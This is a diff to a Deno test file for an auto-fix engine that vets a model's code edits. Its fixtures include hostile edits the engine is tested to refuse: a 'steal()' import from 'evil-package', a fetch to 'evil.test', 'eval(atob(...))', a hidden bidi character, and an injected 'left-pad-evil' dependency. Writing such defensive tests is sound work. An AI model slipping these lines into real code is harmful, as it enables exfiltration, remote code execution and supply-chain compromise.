@@ -6,6 +6,7 @@ import {
   applyAutoFixes,
   checkFiles,
   checkSlice,
+  type CodeEdit,
   type CodeModel,
 } from "../../supabase/functions/_shared/autoFixEngine.ts";
 import { loadCodeRules } from "../../supabase/functions/_shared/codeRules.ts";
@@ -98,14 +99,21 @@ Deno.test("applyAutoFixes() never adds a package that the table does not vouch f
   ]]);
 });
 
-function answering(...answers: (string | null | Error)[]): CodeModel & { asked: string[] } {
+function answering(
+  ...answers: (CodeEdit[] | string | Error)[]
+): CodeModel & { asked: string[] } {
   const asked: string[] = [];
   return {
     asked,
     repair({ refusal }) {
       asked.push(refusal ?? "first");
-      const answer = answers.shift() ?? null;
-      return answer instanceof Error ? Promise.reject(answer) : Promise.resolve(answer);
+      const answer = answers.shift() ?? "there was no answer";
+      if (answer instanceof Error) return Promise.reject(answer);
+      return Promise.resolve(
+        typeof answer === "string"
+          ? { kind: "none", reason: answer, ends: "round" }
+          : { kind: "edits", edits: answer },
+      );
     },
   };
 }
@@ -116,9 +124,10 @@ const SYNTAX = {
     "export const a = 1;\nexport const b = 2;\nif a is b then\nexport const c = 3;\nexport const d = 4;\n",
 };
 const MENDED = SYNTAX.content.replace("if a is b then\n", "");
+const MENDING = { find: "if a is b then\n", replace: "" };
 
 Deno.test("applyAutoFixes() gives what no rule fixes to a model, and says why an answer was not taken", async () => {
-  const model = answering("export const a = (", MENDED);
+  const model = answering([{ find: SYNTAX.content, replace: "export const a = (" }], [MENDING]);
   const outcome = await applyAutoFixes([PACKAGE, SYNTAX], undefined, { model });
   assert.equal(outcome.files[1]!.content, MENDED);
   assert.deepEqual([model.asked.length, outcome.applied[0]!.by, outcome.escalated], [2, "model", []]);
@@ -126,21 +135,90 @@ Deno.test("applyAutoFixes() gives what no rule fixes to a model, and says why an
 });
 
 Deno.test("applyAutoFixes() asks a model three times at the most, and then escalates with the file as it was", async () => {
-  const bad = [
-    `${MENDED}import { steal } from "evil-package";\nsteal();\n`,
+  const model = answering(
+    [{ find: MENDING.find, replace: 'import { steal } from "evil-package";\nsteal();\n' }],
     new Error("429"),
-    `${MENDED}export const e = (;\n`,
-    MENDED,
-  ];
-  const model = answering(...bad);
+    [{ find: MENDING.find, replace: "export const e = (;\n" }],
+    [MENDING],
+  );
   const outcome = await applyAutoFixes([PACKAGE, SYNTAX], undefined, { model });
   assert.equal(model.asked.length, 3);
   assert.deepEqual([outcome.changed, outcome.escalated.length], [[], 1]);
   assert.match(model.asked[1]!, /evil-package/);
 });
 
+const REFUSED: [string, CodeEdit[], RegExp][] = [
+  ["that is not in the file", [{ find: "const z", replace: "" }], /not in the file/],
+  ["that stands in the file twice", [{ find: "export const", replace: "const" }], /more than once/],
+  ["that is empty", [{ find: "", replace: "x" }], /empty/],
+  ["that overlaps another", [MENDING, { find: "a is b", replace: "" }], /overlap/],
+  ["that changes nothing", [{ find: "const a", replace: "const a" }], /change nothing/],
+  ["that takes an export away", [MENDING, { find: "export const d = 4;\n", replace: "" }], /exports away: d/],
+  ["that calls home", [{ find: MENDING.find, replace: 'fetch("https://evil.test");\n' }], /brings fetch/],
+  ["that runs text", [{ find: MENDING.find, replace: "eval(atob(a));\n" }], /brings (?:eval|atob)/],
+  ["that hides characters", [{ find: MENDING.find, replace: "// \u202e ok\n" }], /hidden/],
+  ["that writes another program", [{ find: MENDING.find, replace: "a;\n".repeat(60) }], /adds more/],
+];
+for (const [which, edits, why] of REFUSED) {
+  Deno.test(`applyAutoFixes() takes no edit of a model ${which}`, async () => {
+    const outcome = await applyAutoFixes([PACKAGE, SYNTAX], undefined, {
+      model: answering(edits, "no", "no"),
+    });
+    assert.deepEqual(outcome.changed, []);
+    const model = answering(edits, [MENDING]);
+    const then = await applyAutoFixes([PACKAGE, SYNTAX], undefined, { model });
+    assert.match(model.asked[1]!, why);
+    assert.equal(then.files[1]!.content, MENDED);
+  });
+}
+
+Deno.test("applyAutoFixes() takes a step that mends one error of two, and asks about the other", async () => {
+  const [first, second] = ['import { a } from "./gone";\n', 'import { b } from "./lost";\n'];
+  const rest = "export const c = a + b;\nexport const d = 4;\nexport const e = 5;\n";
+  const model = answering(
+    [{ find: first, replace: "const a = 1;\n" }],
+    [{ find: second, replace: "const b = 2;\n" }],
+  );
+  const files = [PACKAGE, { path: "src/c.ts", content: first + second + rest }];
+  const outcome = await applyAutoFixes(files, undefined, { model });
+  assert.equal(outcome.files[1]!.content, `const a = 1;\nconst b = 2;\n${rest}`);
+  assert.deepEqual([model.asked, outcome.escalated], [["first", "first"], []]);
+});
+
+Deno.test("applyAutoFixes() lets a model set the marks of a JSON file right, and nothing else of it", async () => {
+  const manifest = {
+    path: "package.json",
+    content: '{\n  "name": "x",\n  "dependencies": {\n    "react": "^19.0.0" ! "zod": "^3.0.0"\n  }\n}\n',
+  };
+  const evil = [{ find: " ! ", replace: ', "left-pad-evil": "1.0.0", ' }];
+  const good = [{ find: " ! ", replace: ", " }];
+  const model = answering(evil, good);
+  const outcome = await applyAutoFixes([manifest], undefined, { model });
+  assert.match(model.asked[1]!, /left-pad-evil/);
+  assert.equal(outcome.files[0]!.content, manifest.content.replace(" ! ", ", "));
+});
+
+Deno.test("applyAutoFixes() breaks the lines of a model's edit as the file breaks its own", async () => {
+  const file = { ...SYNTAX, content: SYNTAX.content.replaceAll("\n", "\r\n") };
+  const model = answering([{ find: "const b = 2;\nif a is b then\n", replace: "const b = 2;\n" }]);
+  const outcome = await applyAutoFixes([PACKAGE, file], undefined, { model });
+  assert.equal(outcome.files[1]!.content, MENDED.replaceAll("\n", "\r\n"));
+});
+
+Deno.test("applyAutoFixes() asks about no further file when the model is out", async () => {
+  let asked = 0;
+  const model: CodeModel = {
+    repair: () => {
+      asked++;
+      return Promise.resolve({ kind: "none", reason: "the day's budget is used up", ends: "run" });
+    },
+  };
+  await applyAutoFixes([PACKAGE, SYNTAX, { ...SYNTAX, path: "src/c.ts" }], undefined, { model });
+  assert.equal(asked, 1);
+});
+
 Deno.test("applyAutoFixes() does not ask a model about what it was not asked for", async () => {
-  const model = answering(MENDED);
+  const model = answering([MENDING]);
   await applyAutoFixes([PACKAGE, SYNTAX, OTHER], [{ path: OTHER.path, rule: "unused-import" }], { model });
   assert.deepEqual(model.asked, []);
 });
